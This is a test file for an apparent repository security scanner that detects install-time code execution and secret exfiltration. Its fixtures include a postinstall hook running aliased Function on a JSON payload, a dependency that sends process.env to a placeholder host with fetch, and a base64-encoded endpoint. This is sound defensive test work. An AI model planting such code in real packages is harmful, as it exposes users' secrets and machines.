import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, describe, it } from 'node:test';
import { defineRule } from '../../core/rule.ts';
import type { ScanRule } from '../../core/rule.ts';
import { scan } from '../../index.ts';
import { parseDotenv } from '../../lang/dotenv/parse.ts';
import { loadCodeFacts, passesPrefilter } from './facts.ts';
import { deeplyNested } from '../../lang/js/nesting.ts';
import type { CodeIndex } from './facts.ts';
import { inlineScriptText } from './html.ts';

const dirs: string[] = [];
after(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

function repo(files: Record<string, string>): string {
  const root = mkdtempSync(join(tmpdir(), 'airlock-facts-'));
  dirs.push(root);
  for (const [rel, body] of Object.entries(files)) {
    mkdirSync(dirname(join(root, rel)), { recursive: true });
    writeFileSync(join(root, rel), body);
  }
  return root;
}

/** Scans with a probe rule that captures the code index (plus optional map rules). */
async function indexOf(
  root: string,
  mapRules: ScanRule[] = [],
  nodeModules: 'include' | 'skip' = 'skip',
): Promise<{ index: CodeIndex; errors: string[] }> {
  let index: CodeIndex | undefined;
  const probe = defineRule({
    meta: { id: 'code/test-probe', severity: 'info', confidence: 'high', description: 'probe', since: '0.1.0' },
    async run(ctx) {
      index = await loadCodeFacts(ctx);
    },
  });
  const report = await scan(root, { provenance: false, nodeModules, rules: [...mapRules, probe] });
  assert.ok(index);
  return { index, errors: report.errors.map(e => `${e.file ?? ''}: ${e.message}`) };
}

describe('code facts over a repository', () => {
  it('skips files no rule can match and analyses the rest once', async () => {
    const root = repo({ 'a.js': 'export const x = 1;\n', 'b.js': 'eval(input);\n' });
    const { index } = await indexOf(root);
    assert.equal(index.skipped, 1);
    assert.deepEqual([...index.files.keys()], ['b.js']);
  });

  it('analyses a file a trigger reaches even when no pre-filter atom is in it', async () => {
    // `Function` reached through an alias: no literal of the pre-filter names the sink.
    const setup = 'const g = globalThis;\nconst F = g.Function;\nconst { body } = require("./payload.json");\nF(body)();\n';
    const files = { 'setup.js': setup, 'payload.json': '{"body": "return 1"}\n' };
    const reached = repo({ ...files, 'package.json': '{"name": "x", "scripts": {"postinstall": "node setup.js"}}\n' });
    const report = await scan(reached, { provenance: false });
    assert.deepEqual(
      report.findings.filter(f => f.location.file === 'setup.js').map(f => [f.ruleId, f.severity, f.location.line]),
      [['code/remote-code-execution', 'critical', 4]],
    );
    // Unreached, the same file is still skipped: the pre-filter keeps its cost down elsewhere.
    const { index } = await indexOf(repo({ ...files, 'package.json': '{"name": "x"}\n' }));
    assert.equal(index.skipped, 1);
    assert.equal(index.files.has('setup.js'), false);
  });

  it('gates installed dependency files on the shared byte pass', async () => {
    const root = repo({
      'index.js': 'export const x = 1;\n',
      'node_modules/plain/index.js': 'module.exports = function add(a, b) { return a + b; };\n',
      'node_modules/near/index.js': 'const os = require("os"); module.exports = () => os.hostname();\n',
      'node_modules/evil/index.js': 'const u = process.env; fetch("https://x.invalid", { body: JSON.stringify(process.env) });\n',
    });
    const { index } = await indexOf(root, [], 'include');
    assert.deepEqual([...index.files.keys()].sort(), ['node_modules/evil/index.js']);
    assert.equal(index.skipped, 3);
  });

  it('analyses inline HTML scripts at their HTML lines', async () => {
    const root = repo({
      'index.html':
        '<html>\n<body>\n<script type="application/json">{"a": eval}</script>\n<script>\neval(window.name);\n</script>\n</body></html>\n',
    });
    const { index } = await indexOf(root);
    assert.deepEqual(
      index.files.get('index.html')?.sinks.map(s => s.loc.line),
      [5],
    );
  });

  it('parses a file a surface runs with node as JavaScript, whatever its extension', async () => {
    const root = repo({ 'public/fonts/fa.woff2': 'const c = "x";\n' });
    const devScript = defineRule({
      meta: { id: 'autorun/test-font', severity: 'info', confidence: 'high', description: 'probe surface', phase: 'map', since: '0.1.0' },
      run(ctx) {
        ctx.addSurface({
          trigger: 'dev',
          kind: 'npm-script',
          command: 'node public/fonts/fa.woff2',
          entry: 'public/fonts/fa.woff2',
          location: { file: 'package.json' },
        });
      },
    });
    const { index } = await indexOf(root, [devScript]);
    assert.equal(index.files.get('public/fonts/fa.woff2')?.mode, 'ast');
  });

  it('reads .env files and decodes encoded endpoints', async () => {
    const root = repo({ '.env': 'A=1\nAUTH_API=aHR0cHM6Ly94LmludmFsaWQ=\n', 'config.env.example': "KEY='plain'\n" });
    const { index } = await indexOf(root);
    assert.deepEqual(
      index.env.filter(e => e.decoded).map(e => [e.file, e.key, e.decoded?.value]),
      [['.env', 'AUTH_API', 'https://x.invalid']],
    );
    assert.equal(index.env.length, 3);
  });

  it('survives cyclic imports', async () => {
    const root = repo({
      'a.js': 'const { b } = require("./b"); exports.a = b; eval(b);\n',
      'b.js': 'const { a } = require("./a"); exports.b = a; eval(a);\n',
    });
    const { index } = await indexOf(root);
    assert.equal(index.files.size, 2);
  });

  it('handles 10k-deep nesting without overflowing the stack', async () => {
    const deep = `eval(x);\nconst y = ${'('.repeat(10_000)}1${')'.repeat(10_000)};\n`;
    const root = repo({ 'deep.js': deep });
    const { index, errors } = await indexOf(root);
    const f = index.files.get('deep.js');
    assert.equal(f?.mode, 'ast', errors.join('\n'));
    assert.equal(f.sinks.length, 1);
  });

  it('parses the head and tail of a single 50 MB line and says the middle was not read', async () => {
    const root = repo({ 'big.js': `eval(a);var a="${'x'.repeat(50 * 1024 * 1024)}";` });
    const { index, errors } = await indexOf(root);
    assert.equal(index.files.get('big.js')?.mode, 'ast');
    assert.ok(
      errors.some(e => e.startsWith('big.js')),
      errors.join('\n'),
    );
  });
});

describe('inputs', () => {
  it('parses dotenv syntax', () => {
    assert.deepEqual(
      parseDotenv('# c\nexport A=1 # note\nB="two\\nlines"\nC=\'x # y\'\nD="multi\nline"\nbad line\n').map(e => [e.key, e.value, e.line]),
      [
        ['A', '1', 2],
        ['B', 'two\nlines', 3],
        ['C', 'x # y', 4],
        ['D', 'multi\nline', 5],
      ],
    );
  });

  it('keeps inline script offsets', () => {
    const html = '<p>a</p>\n<script>\nx()\n</script>\n<script src="a.js"></script>';
    const js = inlineScriptText(html) ?? '';
    assert.equal(js.length, html.length);
    assert.equal(js.indexOf('x()'), html.indexOf('x()'));
    assert.equal(inlineScriptText('<p>no script</p>'), undefined);
  });

  it('pre-filters dependency files more strictly than project files', () => {
    assert.equal(passesPrefilter('if (process.env.NODE_ENV) log(process.env)'), true);
    assert.equal(passesPrefilter('if (process.env.NODE_ENV) log(process.env)', true), false);
    assert.equal(passesPrefilter('eval(x); fetch(u)', true), true);
    assert.equal(passesPrefilter('const endpoint = "/api"; // mocking', true), false);
  });

  it('spots nesting that could overflow the parser', () => {
    assert.equal(deeplyNested('('.repeat(500)), true);
    assert.equal(deeplyNested('a(b(c(d)))'), false);
  });
});
